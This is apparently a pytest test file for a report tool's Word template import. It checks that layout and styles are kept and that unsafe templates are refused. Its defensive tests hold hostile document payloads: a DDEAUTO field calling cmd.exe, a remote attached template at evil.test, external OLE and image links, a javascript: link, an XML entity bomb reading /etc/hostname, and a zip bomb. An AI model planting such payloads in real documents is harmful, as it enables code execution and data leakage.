"""A template of the user's own: what of it stays, and what it may not hold."""

import io
import random
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.document import Document
from docx.enum.section import WD_SECTION
from docx.shared import Cm, Pt
from PIL import Image

from tests.comparing import APRIL, JANUARY
from tests.reports import sample
from tests.test_report_word import text_of, what_words_accessibility_checker_finds
from tracker.output.word_file import write_report
from tracker.output.word_template import MAX_EXPANDED_BYTES, MAX_TEMPLATE_BYTES, TemplateError
from tracker.report.content import Report

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def logo() -> io.BytesIO:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(buffer, "PNG")
    buffer.seek(0)
    return buffer


def template(change: Callable[[Document], None] = lambda document: None) -> bytes:
    """A force's template: a logo in the header, its own heading style and page."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21.6), Cm(27.9)
    section.left_margin = section.right_margin = Cm(3)
    section.header.paragraphs[0].add_run().add_picture(logo(), width=Cm(2))
    section.footer.paragraphs[0].text = "The Force"
    document.styles["Heading 1"].font.name = "Georgia"
    document.styles["Heading 1"].font.size = Pt(17)
    document.core_properties.author = "Somebody Else"
    document.core_properties.keywords = "internal"
    document.core_properties.last_modified_by = "Somebody Else"
    change(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def written(data: bytes) -> Document:
    return docx.Document(io.BytesIO(write_report(sample(APRIL, JANUARY), template=data)))


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_part(data: bytes, wanted: str, content: bytes) -> bytes:
    """The file with this part, by its whole name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            new.writestr(name, content if name == wanted else old.read(name))
        if wanted not in old.namelist():
            new.writestr(wanted, content)
    return buffer.getvalue()


def refused(data: bytes) -> str:
    with pytest.raises(TemplateError) as error:
        write_report(sample(APRIL), template=data)
    sentence = str(error.value)
    assert sentence.endswith(".")
    assert "\n" not in sentence
    return sentence


def test_its_page_styles_header_logo_and_footer_stay() -> None:
    made = written(template())

    upright, wide = made.sections
    assert upright.page_width.cm == pytest.approx(21.6, abs=0.01)
    assert wide.page_width.cm == pytest.approx(27.9, abs=0.01)
    assert made.styles["Heading 1"].font.name == "Georgia"
    for section in made.sections:
        assert section.header._element.xpath(".//pic:pic")
        assert "The Force" in section.footer.paragraphs[0].text
    first = next(p for p in made.paragraphs if p.style.name == "Heading 1")
    assert first.text == "1. Summary"


def test_pages_are_numbered_where_the_template_does_not_and_not_twice_where_it_does() -> None:
    def with_number(document: Document) -> None:
        from tracker.output.word_blocks import page_number

        page_number(document.sections[0].header.add_paragraph()._p)

    for data, expected in ((template(), ["PAGE", "NUMPAGES"]), (template(with_number), [])):
        made = written(data)
        assert made.sections[0].footer._element.xpath(".//w:fldSimple/@w:instr") == expected


def test_the_report_stands_where_the_marker_is_and_what_follows_stays_upright() -> None:
    def around(document: Document) -> None:
        document.add_paragraph("Before the report")
        document.add_paragraph("[Report]")
        document.add_paragraph("After the report")

    made = written(template(around))
    text = text_of(made)

    assert text.index("Before the report") < text.index("1. Summary")
    assert text.index("Appendix A: the action plan as at") < text.index("After the report")
    assert "[Report]" not in text
    widths = [section.page_width > section.page_height for section in made.sections]
    assert widths == [False, True, False]


def test_without_a_marker_the_report_stands_last_and_ends_with_the_wide_page() -> None:
    made = written(template(lambda document: document.add_paragraph("Cover")))

    assert text_of(made).startswith("Cover")
    assert [s.page_width > s.page_height for s in made.sections] == [False, True]


def test_a_marker_in_an_earlier_section_takes_the_page_of_that_section() -> None:
    def two_sections(document: Document) -> None:
        document.add_paragraph("[report]")
        document.add_section(WD_SECTION.NEW_PAGE).left_margin = Cm(6)
        document.add_paragraph("Annex")

    made = written(template(two_sections))

    assert [round(s.left_margin.cm, 1) for s in made.sections] == [3.0, 1.5, 3.0, 6.0]
    assert text_of(made).rstrip().endswith("Annex")


def test_headings_that_word_numbers_are_not_numbered_twice() -> None:
    def numbered(document: Document) -> None:
        for name in ("Heading 1", "Heading 2"):
            style = document.styles[name].element
            style.get_or_add_pPr().get_or_add_numPr().get_or_add_numId().val = 1

    made = written(template(numbered))
    headings = [p for p in made.paragraphs if p.style.name == "Heading 1"]

    assert [p.text for p in headings][:2] == ["Summary", "Decision required"]
    assert headings[-1].text.startswith("Appendix A")
    assert headings[-1]._p.xpath("./w:pPr/w:numPr/w:numId/@w:val") == ["0"]


def test_styles_that_it_lacks_are_added() -> None:
    def bare(document: Document) -> None:
        for name in ("Title", "Heading 1", "Heading 2", "Caption", "Table Grid"):
            document.styles[name].delete()

    made = written(template(bare))

    names = {p.style.name for p in made.paragraphs}
    assert {"Title", "Heading 1", "Heading 2", "Caption"} <= names
    assert made.styles["Heading 1"].element.xpath("./w:pPr/w:outlineLvl/@w:val") == ["0"]
    bullet = made.styles["List Bullet"].element.xpath("./w:pPr/w:numPr/w:numId/@w:val")
    assert made.part.numbering_part.element.xpath(f"w:num[@w:numId='{bullet[0]}']")


def test_a_template_without_styles_numbering_and_section_is_completed() -> None:
    data = template(lambda document: None)
    for name, xml in (
        ("document", "<w:document {W}><w:body><w:p/></w:body></w:document>"),
        ("styles", "<w:styles {W}/>"),
        ("numbering", "<w:numbering {W}/>"),
    ):
        data = with_part(data, f"word/{name}.xml", xml.format(W=W).encode())

    assert what_words_accessibility_checker_finds(written(data)) == []


def test_words_accessibility_checker_has_nothing_to_report_in_a_template() -> None:
    assert what_words_accessibility_checker_finds(written(template())) == []


def test_the_templates_author_machine_and_language_are_not_the_reports() -> None:
    data = write_report(sample(APRIL, JANUARY), template=template())
    made = docx.Document(io.BytesIO(data))

    about = made.core_properties
    assert (about.author, about.last_modified_by) == ("Information Assurance Manager",) * 2
    assert about.keywords == ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"Somebody" in archive.read(name) for name in archive.namelist())
        assert "docProps/app.xml" not in archive.namelist()


def test_a_dotx_is_a_template_too() -> None:
    data = template()
    types = part(data, "[Content_Types].xml")
    types = types.replace(b"document.main+xml", b"template.main+xml")
    dotx = with_part(data, "[Content_Types].xml", types)

    assert "1. Summary" in text_of(written(dotx))


# -------------------------------------------------------------------------- what it may not hold


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK",
        b"hello",
        b"PK\x03\x04" + b"x" * 100,
        b"\xd0\xcf\x11\xe0" + bytes(600),
        b"%PDF-1.7",
    ],
)
def test_what_is_no_word_document_is_refused_in_a_sentence(data: bytes) -> None:
    assert refused(data) == "This template is not a Word document: save it from Word as .docx."


def test_a_spreadsheet_is_refused() -> None:
    import openpyxl

    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    assert "not a Word document" in refused(buffer.getvalue())


def test_a_truncated_document_is_refused() -> None:
    assert "not a Word document" in refused(template()[:-200])


def test_a_document_without_a_body_is_refused() -> None:
    data = with_part(template(), "word/document.xml", f"<w:document {W}/>".encode())
    assert "not a Word document" in refused(data)


def test_macros_are_refused() -> None:
    data = template()
    types = part(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macros" in refused(with_part(data, "[Content_Types].xml", types))
    assert "macros" in refused(with_part(data, "word/vbaProject.bin", b"x"))


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://tracker.test/logo.png"),
        ("image", "file://server/share/logo.png"),
        ("hyperlink", "file://server/share"),
        ("hyperlink", "javascript:alert(1)"),
        ("oleObject", "http://tracker.test/x"),
        ("subDocument", "other.docx"),
        ("frame", "http://tracker.test/x"),
        ("mailMergeSource", "file:///c:/data.mdb"),
    ],
)
def test_what_is_outside_of_it_is_refused(kind: str, target: str) -> None:
    data = template()
    rels = part(data, "word/_rels/document.xml.rels")
    spoilt = rels.replace(b"</Relationships>", relation(kind, target))
    sentence = refused(with_part(data, "word/_rels/document.xml.rels", spoilt))
    assert "outside of it" in sentence or "embedded object" in sentence


def test_an_ordinary_link_may_stay() -> None:
    data = template()
    name = "word/_rels/document.xml.rels"
    link = relation("hyperlink", "https://tracker.test/")
    linked = with_part(data, name, part(data, name).replace(b"</Relationships>", link))
    assert "1. Summary" in text_of(written(linked))


def test_the_template_that_it_was_made_from_is_left_out() -> None:
    data = template()
    settings = part(data, "word/settings.xml").replace(
        b"<w:defaultTabStop",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId99"/><w:defaultTabStop',
    )
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels += relation("attachedTemplate", "file://evil.test/share/x.dotm")
    attached = with_part(data, "word/settings.xml", settings)
    attached = with_part(attached, "word/_rels/settings.xml.rels", rels)

    made = write_report(sample(APRIL), template=attached)

    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.test" not in everything
    assert b"attachedTemplate" not in everything


@pytest.mark.parametrize(
    "xml",
    [
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/></w:p>',
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText>'
        "</w:r><w:r><w:instrText>PICTURE http://tracker.test </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="http://tracker.test/x.png"/></v:shape></w:pict></w:r></w:p>',
    ],
)
def test_a_field_or_drawing_that_fetches_or_runs_is_refused(xml: str) -> None:
    data = template()
    spoilt = part(data, "word/document.xml").replace(b"<w:body>", b"<w:body>" + xml.encode())
    assert "fetches or runs" in refused(with_part(data, "word/document.xml", spoilt))


def test_ordinary_fields_may_stay() -> None:
    xml = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK '
        b'"https://tracker.test/link" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        b'</w:r><w:fldSimple w:instr=" DATE "/></w:p>'
    )
    data = template()
    fields = part(data, "word/document.xml").replace(b"<w:body>", b"<w:body>" + xml)
    assert "1. Summary" in text_of(written(with_part(data, "word/document.xml", fields)))


def test_a_file_over_the_limits_is_refused_before_it_is_unpacked_or_parsed() -> None:
    data = template()
    assert "5 MB" in refused(data + bytes(MAX_TEMPLATE_BYTES))
    bomb = with_part(data, "word/media/zeros.bin", b"")
    buffer = io.BytesIO(bomb)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/more.bin", bytes(MAX_EXPANDED_BYTES + 1))
    assert "8 MB when it is unpacked" in refused(buffer.getvalue())
    many = f"<w:document {W}><w:body>{'<w:p/>' * 600_000}</w:body></w:document>".encode()
    assert "long document" in refused(with_part(data, "word/document.xml", many))


def test_entities_are_not_expanded() -> None:
    laughs = "".join(f'<!ENTITY a{n} "{chr(38)}a{n - 1};{chr(38)}a{n - 1};">' for n in range(1, 9))
    xml = (
        f'<!DOCTYPE d [<!ENTITY a0 "ha">{laughs}<!ENTITY file SYSTEM "file:///etc/hostname">]>'
        f"<w:document {W}><w:body><w:p><w:r><w:t>&a8;&file;</w:t></w:r></w:p></w:body></w:document>"
    )
    assert "not a Word document" in refused(
        with_part(template(), "word/document.xml", xml.encode())
    )


def test_however_a_template_is_damaged_it_is_used_or_refused_in_a_sentence() -> None:
    chance = random.Random(6)
    data = template(lambda document: document.add_paragraph("[report]"))
    report = sample(APRIL)
    for _ in range(60):
        name = chance.choice(
            [
                "word/document.xml",
                "word/styles.xml",
                "word/settings.xml",
                "[Content_Types].xml",
                "word/_rels/document.xml.rels",
                "word/numbering.xml",
                "docProps/core.xml",
            ]
        )
        content = bytearray(part(data, name))
        for _ in range(chance.choice([1, 3, 20])):
            place = chance.randrange(len(content))
            content[place : place + chance.choice([0, 1, 30])] = bytes(
                chance.choice([b"", b"x", b"<", b"0", b"<w:p/>", b"-1"])
            )
        damaged = with_part(data, name, bytes(content))
        sentence, made = outcome(report, damaged)
        assert re.fullmatch(r"This template [^\n]*\.", sentence) or "1. Summary" in text_of(made)


def outcome(report: Report, data: bytes) -> tuple[str, Document]:
    """Why a template was refused, or the document written into it."""
    try:
        made = write_report(report, template=data)
    except TemplateError as error:
        return str(error), docx.Document()
    return "", docx.Document(io.BytesIO(made))
